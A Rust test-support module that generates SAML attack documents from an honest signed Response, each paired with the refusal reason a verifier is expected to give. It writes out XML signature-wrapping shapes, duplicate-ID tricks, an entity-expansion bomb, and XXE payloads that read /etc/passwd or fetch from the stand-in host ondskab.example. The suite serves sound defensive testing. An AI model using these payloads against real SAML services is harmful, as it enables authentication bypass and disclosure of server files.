//! The SAML mutator: from one honest, signed Response, every attack document of table A that can be
//! made without the signer's key. Text in, texts out; it knows nothing of Portner.
//!
//! The honest message must be written as Portner writes it: prefixes `samlp`, `saml` and `ds`, one
//! Assertion, no line breaks. Attacks that need a key of their own (A22, A23 with HMAC) are with the tests.

#[path = "editing.rs"]
pub(crate) mod editing;
#[path = "signature_mutants.rs"]
mod signature_mutants;

use editing::{
    DS, after_issuer, attribute, evil_copy, in_text, insert, places_in_text, replace, signs_response, slice,
    unsigned,
};
pub(crate) use signature_mutants::other_key_infos;
use signature_mutants::{algorithms, changed_content, moved_signatures, references, transforms};

/// One attack document.
pub(crate) struct Mutant {
    /// The row of the catalogue.
    pub(crate) row: &'static str,
    /// Which variant of the attack.
    pub(crate) name: String,
    /// The document.
    pub(crate) xml: String,
    /// The reason that the refusal must give.
    pub(crate) reason: &'static str,
}

pub(crate) fn mutant(
    row: &'static str,
    name: impl Into<String>,
    xml: String,
    reason: &'static str,
) -> Mutant {
    Mutant {
        row,
        name: name.into(),
        xml,
        reason,
    }
}

/// Every attack document on `honest`. `other` is a second honest Response of the same party.
pub(crate) fn mutants(honest: &str, other: &str) -> Vec<Mutant> {
    let mut all = Vec::new();
    all.extend(without_signature(honest));
    all.extend(wrapped(honest));
    all.extend(two_assertions(honest, other));
    all.extend(duplicate_ids(honest));
    all.extend(document_types(honest));
    all.extend(comments(honest));
    all.extend(references(honest));
    all.extend(transforms(honest));
    all.extend(algorithms(honest));
    all.extend(moved_signatures(honest));
    all.extend(changed_content(honest));
    all.extend(external_entities(honest));
    all.extend(oversized(honest));
    all
}

/// A01: no signature, with and without its KeyInfo left behind.
fn without_signature(honest: &str) -> Vec<Mutant> {
    let bare = unsigned(honest);
    let key_info = slice(honest, "ds:KeyInfo").to_owned();
    let key_info = key_info.replacen("<ds:KeyInfo", &format!("<ds:KeyInfo xmlns:ds=\"{DS}\""), 1);
    let inside = after_issuer(&bare, "saml:Assertion", &key_info);
    vec![
        mutant("A01", "no signature", bare, "unsigned"),
        mutant(
            "A01",
            "no signature, KeyInfo left in the Assertion",
            inside,
            "unsigned",
        ),
    ]
}

/// A03: the eight shapes of "On Breaking SAML", on whatever the honest message has signed.
///
/// Shape 3 cannot be told from A06 and bears its reason.
fn wrapped(honest: &str) -> Vec<Mutant> {
    let original = unsigned(honest);
    let assertion = slice(honest, "saml:Assertion");
    let bare_assertion = slice(&original, "saml:Assertion");
    let signature = slice(honest, "ds:Signature");
    let evil = evil_copy(bare_assertion);
    let evil_response = evil_copy(&original);
    let with = |replacement: &str| replace(honest, "saml:Assertion", replacement);
    let stuffed = |what: &str| signature.replacen("</ds:Signature>", &format!("{what}</ds:Signature>"), 1);
    let object = |what: &str| stuffed(&format!("<ds:Object>{what}</ds:Object>"));
    let without_outer = |text: &str| {
        if signs_response(honest) {
            replace(text, "ds:Signature", "")
        } else {
            text.to_owned()
        }
    };
    let shape = |number: u8, xml: String| {
        let reason = if number == 3 {
            "assertion_count"
        } else {
            "structure"
        };
        mutant("A03", format!("XSW{number}"), xml, reason)
    };
    vec![
        shape(
            1,
            after_issuer(&evil_response, "samlp:Response", &stuffed(&original)),
        ),
        shape(
            2,
            after_issuer(
                &evil_response,
                "samlp:Response",
                &format!("{original}{signature}"),
            ),
        ),
        shape(3, with(&format!("{evil}{assertion}"))),
        shape(
            4,
            with(&evil.replacen("</saml:Assertion>", &format!("{assertion}</saml:Assertion>"), 1)),
        ),
        shape(
            5,
            without_outer(&with(&format!(
                "{}{bare_assertion}",
                after_issuer(&evil, "saml:Assertion", signature)
            ))),
        ),
        shape(
            6,
            without_outer(&with(&after_issuer(
                &evil,
                "saml:Assertion",
                &stuffed(bare_assertion),
            ))),
        ),
        shape(
            7,
            with(&format!("<samlp:Extensions>{evil}</samlp:Extensions>{assertion}")),
        ),
        shape(
            8,
            without_outer(&with(&after_issuer(
                &evil,
                "saml:Assertion",
                &object(bare_assertion),
            ))),
        ),
    ]
}

/// A06: two assertions, with and without a signature, in either order.
fn two_assertions(honest: &str, other: &str) -> Vec<Mutant> {
    let (first, second) = (slice(honest, "saml:Assertion"), slice(other, "saml:Assertion"));
    let evil = evil_copy(slice(&unsigned(honest), "saml:Assertion"));
    let encrypted = "<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>";
    [
        ("honest, forged", format!("{first}{evil}")),
        ("forged, honest", format!("{evil}{first}")),
        ("honest, honest", format!("{first}{second}")),
        ("honest, honest in the other order", format!("{second}{first}")),
        ("honest, encrypted", format!("{first}{encrypted}")),
    ]
    .into_iter()
    .map(|(name, both)| {
        mutant(
            "A06",
            name,
            replace(honest, "saml:Assertion", &both),
            "assertion_count",
        )
    })
    .collect()
}

/// A08: one ID twice, under every name that some reader takes for an ID, before and after the honest one.
fn duplicate_ids(honest: &str) -> Vec<Mutant> {
    let mut found = Vec::new();
    for tag in ["samlp:Response", "saml:Assertion"] {
        let id = attribute(honest, tag, "ID");
        for name in ["ID", "Id", "id", "iD", "xml:id", "AssertionID"] {
            let twin = format!("<samlp:Extensions><x {name}=\"{id}\"/></samlp:Extensions>");
            let before = after_issuer(honest, "samlp:Response", &twin);
            let after = honest.replacen("</samlp:Response>", &format!("{twin}</samlp:Response>"), 1);
            found.push(mutant(
                "A08",
                format!("{name} of {tag}, before"),
                before,
                "dup_id",
            ));
            found.push(mutant("A08", format!("{name} of {tag}, after"), after, "dup_id"));
        }
    }
    let (response, assertion) = (
        attribute(honest, "samlp:Response", "ID"),
        attribute(honest, "saml:Assertion", "ID"),
    );
    let shared = honest.replace(&assertion, &response);
    found.push(mutant(
        "A08",
        "Response and Assertion share an ID",
        shared,
        "dup_id",
    ));
    found
}

/// A12: document types, notations, entities.
fn document_types(honest: &str) -> Vec<Mutant> {
    let declarations = [
        "<!DOCTYPE samlp:Response>",
        "<!DOCTYPE samlp:Response SYSTEM \"saml.dtd\">",
        "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\">]>",
        "<!DOCTYPE r [<!ENTITY e \"rektor\">]>",
        "<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>",
        "<!doctype r>",
        "<!NOTATION n SYSTEM \"n\">",
    ];
    let before = declarations
        .iter()
        .map(|text| mutant("A12", *text, format!("{text}{honest}"), "dtd"));
    let entity = in_text(honest, "saml:NameID", "&rektor;");
    before
        .chain([mutant("A12", "entity in NameID", entity, "dtd")])
        .collect()
}

/// A14: a comment in every text, and between elements.
fn comments(honest: &str) -> Vec<Mutant> {
    let mut found: Vec<_> = places_in_text(honest)
        .map(|at| {
            let name = format!("comment at {at}");
            mutant(
                "A14",
                name,
                insert(honest, at, "<!--.ondskab.example-->"),
                "comment",
            )
        })
        .collect();
    found.push(mutant(
        "A14",
        "comment before the document",
        format!("<!---->{honest}"),
        "comment",
    ));
    found.push(mutant(
        "A14",
        "comment after the document",
        format!("{honest}<!---->"),
        "comment",
    ));
    let cdata = in_text(honest, "saml:NameID", "<![CDATA[x]]>");
    found.push(mutant("A14", "CDATA in NameID", cdata, "cdata"));
    let instruction = in_text(honest, "saml:NameID", "<?x?>");
    found.push(mutant(
        "A14",
        "instruction in NameID",
        instruction,
        "processing_instruction",
    ));
    found
}

/// A27: everything that might make a reader fetch something.
fn external_entities(honest: &str) -> Vec<Mutant> {
    let types = [
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://ondskab.example/\">]>",
        "<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://ondskab.example/e\"> %e;]>",
        "<!DOCTYPE r PUBLIC \"-//X\" \"http://ondskab.example/x.dtd\">",
    ];
    let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
    let location = " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
                    xsi:schemaLocation=\"urn:x http://ondskab.example/x.xsd\"";
    let mut found: Vec<_> = types
        .iter()
        .map(|text| mutant("A27", *text, format!("{text}{honest}"), "dtd"))
        .collect();
    let in_response = after_issuer(honest, "samlp:Response", include);
    found.push(mutant(
        "A27",
        "XInclude in the Response",
        in_response,
        "structure",
    ));
    let in_assertion = honest.replacen("<saml:Conditions", &format!("{include}<saml:Conditions"), 1);
    found.push(mutant(
        "A27",
        "XInclude in the Assertion",
        in_assertion,
        "signature",
    ));
    let located = honest.replacen("<saml:Assertion", &format!("<saml:Assertion{location}"), 1);
    found.push(mutant("A27", "schemaLocation", located, "signature"));
    found
}

/// A28: more of everything than is read.
fn oversized(honest: &str) -> Vec<Mutant> {
    let many = |one: fn(usize) -> String, count: usize| (0..count).map(one).collect::<String>();
    let in_tag = |what: String| honest.replacen("<saml:Assertion", &format!("<saml:Assertion{what}"), 1);
    let in_name_id = |what: &str| in_text(honest, "saml:NameID", what);
    let laughs = "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
    let deep = "<x>".repeat(40) + &"</x>".repeat(40);
    vec![
        mutant(
            "A28",
            "100 000 attributes",
            in_tag(many(|n| format!(" a{n}=\"\""), 100_000)),
            "size",
        ),
        mutant(
            "A28",
            "1 000 attributes",
            in_tag(many(|n| format!(" a{n}=\"\""), 1_000)),
            "size",
        ),
        mutant(
            "A28",
            "100 000 xmlns",
            in_tag(many(|n| format!(" xmlns:a{n}=\"u:\""), 100_000)),
            "size",
        ),
        mutant(
            "A28",
            "20 xmlns",
            in_tag(many(|n| format!(" xmlns:a{n}=\"u:\""), 20)),
            "size",
        ),
        mutant(
            "A28",
            "a long tag",
            in_tag(format!(" a=\"{}\"", "x".repeat(20_000))),
            "size",
        ),
        mutant("A28", "huge text", in_name_id(&"x".repeat(300_000)), "size"),
        mutant(
            "A28",
            "10 000 elements",
            in_name_id(&"<x/>".repeat(10_000)),
            "size",
        ),
        mutant("A28", "40 deep", in_name_id(&deep), "size"),
        mutant("A28", "200 000 opened", "<x>".repeat(80_000), "size"),
        mutant("A28", "entity bomb", format!("{laughs}{honest}"), "dtd"),
    ]
}
